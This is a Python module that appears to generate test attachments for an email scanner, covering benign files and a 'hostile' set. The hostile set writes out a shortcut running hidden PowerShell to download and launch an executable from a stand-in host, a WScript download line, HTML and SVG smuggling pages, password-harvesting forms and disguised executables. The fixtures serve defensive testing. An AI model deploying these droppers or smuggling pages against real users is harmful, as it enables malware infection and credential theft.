"""All that is neither PDF nor Office: calendars, cards, pages, pictures, archives, signed mails, reports of servers."""
import base64
import gzip
import struct

from PIL import Image

import mail
from pdf_files import BILL, as_bytes, code, fax, page
from programs import PASSWORD, run, zipped

ZIP = "application/zip"
PAGE = "text/html"
SVG = "image/svg+xml"
PNG = "image/png"
ICS = "text/calendar"
BYTES = "application/octet-stream"
SEVENZIP = "application/x-7z-compressed"
GZIP = "application/gzip"

CALENDAR = ("BEGIN:VCALENDAR\r\nPRODID:{product}\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:{uid}\r\n"
            "DTSTAMP:20260601T070000Z\r\nDTSTART:20260603T080000Z\r\nDTEND:20260603T090000Z\r\nSUMMARY:{summary}\r\n"
            "ORGANIZER;CN=Anna Vogt:mailto:anna.vogt@litware.example\r\n"
            "ATTENDEE;CN=Tanaka;RSVP=TRUE:mailto:tanaka@contoso.example\r\n"
            "LOCATION:{where}\r\nDESCRIPTION:{text}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
TEAMS = "https://teams.microsoft.com/l/meetup-join/19%3ameeting_ZmFrZQ%40thread.v2/0?context=%7b%22Tid%22%3a%220%22%7d"


def calendar(product, where, text, summary="Abstimmung"):
    return CALENDAR.format(product=product, uid="a1@litware.example", where=where, text=text, summary=summary).encode()


def monitoring_page():
    picture = base64.b64encode(as_bytes(fax().resize((240, 120)), "PNG")).decode()
    points = ",".join(f"[{n},{(n * 37) % 100}]" for n in range(2000))
    return (f"<html><head><title>Monitoring</title><style>td{{padding:2px}}</style></head><body><h1>Wochenbericht</h1>"
            f"<img src='data:image/png;base64,{picture}'><canvas id='c'></canvas><script>var data=[{points}];"
            "var c=document.getElementById('c').getContext('2d');c.beginPath();data.forEach(function(p){c.lineTo(p[0],p[1]);});"
            "c.stroke();document.querySelectorAll('th').forEach(function(h){h.onclick=function(){sort(h);};});"
            "function sort(h){window.location.hash=h.id;}</script></body></html>").encode()


def packed_page():
    """A report with its data inside, compressed: as test and coverage tools write it."""
    data = base64.b64encode(gzip.compress(b"".join(b"case %d passed\n" % n for n in range(9000)))).decode()
    return (f"<html><body><div id='root'></div><script>var packed='{data}';var bytes=Uint8Array.from(atob(packed),function(c)"
            "{return c.charCodeAt(0);});new Response(new Blob([bytes]).stream().pipeThrough(new DecompressionStream('gzip')))"
            ".text().then(function(t){document.getElementById('root').textContent=t;});</script></body></html>").encode()


def export_page():
    """A table that the reader can keep as CSV by pressing a button."""
    return ("<html><body><table id='t'><tr><td>1</td></tr></table><button onclick='keep()'>CSV</button><script>function keep(){"
            "var b=new Blob([document.getElementById('t').innerText],{type:'text/csv'});var a=document.createElement('a');"
            "a.href=URL.createObjectURL(b);a.download='bericht.csv';a.click();}</script></body></html>").encode()


DMARC = (b"<?xml version=\"1.0\"?><feedback><report_metadata><org_name>litware.example</org_name>"
         b"</report_metadata><policy_published>"
         b"<domain>contoso.example</domain><p>none</p></policy_published>"
         b"<record><row><source_ip>192.0.2.1</source_ip><count>4</count>"
         b"</row></record></feedback>\n")
SITE = {"seite/index.html": b"<html><script src='a.js'></script></html>", "seite/a.js": b"function a() { return 1; }\n",
        "seite/b.js": b"function b() { return 2; }\n", "seite/stil.css": b"body { margin: 0 }\n",
        **{f"seite/bild{n}.svg": b"<svg xmlns='http://www.w3.org/2000/svg'/>" for n in range(12)}}
LOGO = (b"<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 100 40'>"
        b"<style>.a{fill:#036}</style><a href='https://www.litware.example'>"
        b"<rect class='a' width='100' height='40'/></a><text x='9' y='25'>Litware</text></svg>")


def asks_password(target):
    return (f"<html><body>Open the message<form action='{target}' method='post'><input type='email'><input type='password'></form>"
            "</body></html>").encode()


def tnef(name, content):
    """winmail.dat with one file (MS-OXTNEF)."""
    def attribute(level, kind, data):
        return struct.pack("<BII", level, kind, len(data)) + data + struct.pack("<H", sum(data) & 0xFFFF)
    return (struct.pack("<IH", 0x223E9F78, 1) + attribute(1, 0x00089006, struct.pack("<I", 0x00010000))
            + attribute(1, 0x00078008, b"IPM.Microsoft Mail.Note\0") + attribute(2, 0x00069002, b"\1\0" + b"\0" * 12)
            + attribute(2, 0x00018010, name.encode() + b"\0") + attribute(2, 0x0006800F, content))


def signed_mail(sender):
    """multipart/signed by openssl, with a certificate of its own."""
    made = run(["sh", "-c", "openssl req -x509 -newkey rsa:2048 -nodes -keyout k.pem -out c.pem -days 30 -subj '/CN=Anna Vogt' 2>e "
                "&& openssl smime -sign -in t -signer c.pem -inkey k.pem -out m"],
               {"t": b"Content-Type: text/plain; charset=utf-8\n\nAnbei der unterschriebene Vertrag.\n"}, "m").decode()
    first = made.index("Content-Type: multipart/signed") if "Content-Type: multipart/signed" in made else made.index("Content-Type")
    return (mail.head("signed_mail", sender, "Vertrag") + made[first:]).encode()


def attached_mail():
    return (b"From: Kunde <kunde@fabrikam.example>\nTo: anna.vogt@litware.example\nSubject: Reklamation\n"
            b"Date: Mon, 1 Jun 2026 08:00:00 +0200\n"
            b"Message-ID: <r1@fabrikam.example>\nMIME-Version: 1.0\n"
            b"Content-Type: text/plain; charset=utf-8\n\nDie Ware ist beschaedigt.\n")


def good():
    """{name: [(filename, media type, bytes), ...]}"""
    bill = page(BILL)
    invite = "text/calendar; method=REQUEST; charset=utf-8"
    card = (b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Anna Vogt\r\nORG:Litware GmbH\r\n"
            b"TEL:+49 30 000000\r\nURL:https://www.litware.example\r\nEND:VCARD\r\n")
    logo = as_bytes(Image.new("RGB", (200, 80), (0, 51, 102)), "PNG")
    return {
        "teams_invite": [("termin.ics", invite,
            calendar("Microsoft Exchange Server 2010", "Microsoft Teams-Besprechung", "Beitreten: " + TEAMS))],
        "zoom_invite": [("invite.ics", ICS,
            calendar("-//zoom.us//iCalendar Event//EN", "https://zoom.us/j/90000000000", "Meeting-ID: 900 0000 0000"))],
        "google_invite": [("invite.ics", invite,
            calendar("-//Google Inc//Google Calendar 70.9054//EN", "Berlin", "https://meet.google.com/abc-defg-hij"))],
        "plain_invite": [("invite.ics", ICS,
            calendar("-//Litware//EN", "Raum 4", "Agenda: https://www.litware.example/agenda"))],
        "invite_with_agenda": [("termin.ics", ICS, calendar("-//Litware//EN", "Raum 4", "Agenda anbei").replace(
            b"END:VEVENT", b"ATTACH;FMTTYPE=application/pdf;ENCODING=BASE64;VALUE=BINARY;FILENAME=agenda.pdf:"
            + base64.b64encode(bill) + b"\r\nEND:VEVENT"))],
        "link_to_page": [("Lieferschein.zip", ZIP, zipped({"Lieferschein.url": b"[InternetShortcut]\r\nURL=https://www.litware.example/ls\r\n"}))],
        "card": [("anna_vogt.vcf", "text/vcard", card)],
        "csv": [("export.csv", "text/csv",
            "Artikel;Menge;Summe\nSchmierfett;12;=B2*34\nTelefon;+49 30 0;-4\n".encode())],
        "monitoring_page": [("wochenbericht.html", PAGE, monitoring_page())],
        "packed_report_page": [("testbericht.html", PAGE, packed_page())],
        "page_that_exports": [("bericht.html", PAGE, export_page())],
        "invoice_page": [("rechnung.html", PAGE,
            "<html><body><h1>Rechnung</h1><a href='https://www.litware.example/r/1'>PDF</a></body></html>".encode())],
        "encrypted_mail_page": [("securedoc.html", PAGE,
            asks_password("https://res.cisco.com/websafe/pswdForgot.action"))],
        "encrypted_mail_page_of_sender": [("SecureMessageAtt.html", PAGE,
            asks_password("https://securemail.litware.example/formpostdir/securereader"))],
        "device_code_png": [("code.png", PNG,
            code("otpauth://totp/Litware:tanaka@contoso.example?secret=GEZDGNBVGY3TQOJQ&issuer=Litware"))],
        "script_with_password": [("werkzeug.zip", ZIP,
            zipped({"einrichten.ps1": b"Copy-Item daten \\\\fs01\\daten\n"}, "geheim-1"))],
        "logo_svg": [("logo.svg", SVG, LOGO)],
        "svg_with_picture": [("plan.svg", SVG,
            b"<svg xmlns='http://www.w3.org/2000/svg'><image href='data:image/png;base64,"
                              + base64.b64encode(logo) + b"'/></svg>")],
        "logo_png": [("logo.png", PNG, logo)],
        "picture_webp": [("foto.webp", "image/webp", as_bytes(Image.new("RGB", (300, 200), (9, 99, 9)), "WEBP"))],
        "ticket_code_png": [("karte.png", PNG, code("https://www.litware.example/karte/0041882"))],
        "card_code_png": [("visitenkarte.png", PNG, code("BEGIN:VCARD\nFN:Anna Vogt\nTEL:+49300000\nEND:VCARD"))],
        "wifi_code_png": [("gaeste-wlan.png", PNG, code("WIFI:T:WPA;S:Litware-Gast;P:willkommen;;"))],
        "fax_tiff": [("fax.tif", "image/tiff", as_bytes(fax(), "TIFF", compression="group4"))],
        "fax_jpeg": [("scan.jpg", "image/jpeg", as_bytes(fax().convert("L"), "JPEG"))],
        "zip_of_pdf": [("rechnungen.zip", ZIP, zipped({"rechnung1.pdf": bill, "rechnung2.pdf": bill}))],
        "zip_with_password": [("unterlagen.zip", ZIP, zipped({"lohn.pdf": bill}, "geheim-1"))],
        "sevenzip": [("plaene.7z", SEVENZIP, run(["7zz", "a", "-bd", "a.7z", "a.pdf"], {"a.pdf": bill}, "a.7z"))],
        "sevenzip_with_password": [("plaene.7z", SEVENZIP,
                                    run(["7zz", "a", "-bd", "-mhe=on", "-pgeheim-1", "a.7z", "a.pdf"], {"a.pdf": bill}, "a.7z"))],
        "website_in_zip": [("seite.zip", ZIP, zipped(SITE))],
        "tar_gz_of_logs": [("logs.tar.gz", GZIP,
            run(["tar", "-czf", "a.tgz", "app.log"], {"app.log": b"started\n" * 400}, "a.tgz"))],
        "dmarc_zip": [("litware.example!contoso.example!1780000000!1780086400.zip", ZIP,
                       zipped({"litware.example!contoso.example!1780000000!1780086400.xml": DMARC}))],
        "dmarc_gz": [("litware.example!contoso.example!1780000000!1780086400.xml.gz", GZIP,
            gzip.compress(DMARC, mtime=0))],
        "xrechnung": [("rechnung.xml", "application/xml",
            b"<?xml version='1.0'?><Invoice xmlns='urn:oasis:names:specification:ubl:schema:xsd:Invoice-2'/>\n")],
        "json_export": [("export.json", "application/json", b"{\"artikel\": [1, 2, 3]}\n")],
        "attached_mail": [("Reklamation.eml", "message/rfc822", attached_mail())],
        "winmail": [("winmail.dat", "application/ms-tnef", tnef("angebot.pdf", bill))],
        "key": [("anna_vogt.asc", "application/pgp-keys",
            b"-----BEGIN PGP PUBLIC KEY BLOCK-----\n\nmQENBA==\n-----END PGP PUBLIC KEY BLOCK-----\n")],
        # Exceptions are among these: tests/bench/README.md.
        "batch_file_of_vendor": [("werkzeug.zip", ZIP,
            zipped({"einrichten.bat": b"@echo off\r\nxcopy daten \\\\fs01\\daten /s\r\n"}))],
        "disk_image_of_vendor": [("firmware.iso", BYTES,
            run(["genisoimage", "-quiet", "-o", "a.iso", "a.bin"], {"a.bin": b"\1" * 4000}, "a.iso"))],
    }


def shortcut():
    """[MS-SHLLINK]: a relative path and arguments."""
    def text(value):
        return struct.pack("<H", len(value)) + value.encode("utf-16-le")
    identity = bytes.fromhex("0114020000000000c000000000000046")
    return (struct.pack("<I", 0x4C) + identity + struct.pack("<II", 0x80 | 0x20 | 0x08, 0x80) + b"\0" * 24
            + struct.pack("<IiIHHII", 0, 0, 7, 0, 0, 0, 0)
            + text("..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")
            + text("-w hidden -c iwr http://192.0.2.7/a -outf $env:temp\\a.exe; saps $env:temp\\a.exe") + b"\0\0\0\0")


SCRIPT = b"var s = new ActiveXObject('WScript.Shell'); s.Run('powershell -c iwr http://192.0.2.7/a');\n"
PROGRAM = b"MZ\x90\0" + b"\0" * 56 + struct.pack("<I", 0x40) + b"PE\0\0\x4c\x01" + b"\0" * 400


def hostile():
    payload = base64.b64encode(zipped({"invoice.js": SCRIPT * 40}) * 60).decode()
    smuggles = ("<script>var d='" + payload + "';var b=new Blob([Uint8Array.from(atob(d),function(c){return c.charCodeAt(0)})],"
                "{type:'application/zip'});var a=document.createElement('a');a.href=URL.createObjectURL(b);"
                "a.download='invoice.zip';"
                "document.body.appendChild(a);a.click();</script>")
    iso = run(["genisoimage", "-quiet", "-J", "-o", "a.iso", "Invoice.lnk", "a.exe"],
              {"Invoice.lnk": shortcut(), "a.exe": PROGRAM}, "a.iso")
    return {
        "page_smuggles": [("invoice.html", PAGE, ("<html><body>" + smuggles + "</body></html>").encode())],
        "svg_smuggles": [("invoice.svg", SVG,
            ("<svg xmlns='http://www.w3.org/2000/svg'>" + smuggles + "</svg>").encode())],
        "page_asks_password": [("voice.html", PAGE, asks_password("https://collect.elsewhere.example/p"))],
        "page_asks_password_of_sender": [("voice.html", PAGE, asks_password("https://collect.stranger.example/p"))],
        "shortcut_in_zip": [("invoice.zip", ZIP, zipped({"invoice.pdf.lnk": shortcut()}))],
        "disk_image": [("invoice.iso", BYTES, iso)],
        "disk_image_renamed": [("invoice.pdf", "application/pdf", iso)],
        "program_disguised": [("invoice.pdf.exe", BYTES, PROGRAM)],
        "link_to_program": [("invoice.zip", ZIP, zipped({"invoice.url": b"[InternetShortcut]\r\nURL=file://192.0.2.7/share/a.exe\r\n"}))],
        "script_in_zip": [("invoice.zip", ZIP, zipped({"invoice.pdf.js": SCRIPT}))],
        "script_in_zip_with_password": [("invoice.zip", ZIP, zipped({"invoice.js": SCRIPT}, "infected1"))],
        "mail_with_program": [("fwd.eml", "message/rfc822", mail.make("inner", "A a@stranger.example", "x", "x",
                                                                     [("invoice.pdf.exe", BYTES, PROGRAM)]))],
        "code_asks_account": [("mfa.png", PNG, code("https://login.stranger.example/mfa?u=tanaka@contoso.example"))],
        "winmail_with_program": [("winmail.dat", "application/ms-tnef", tnef("invoice.exe", PROGRAM))],
    }
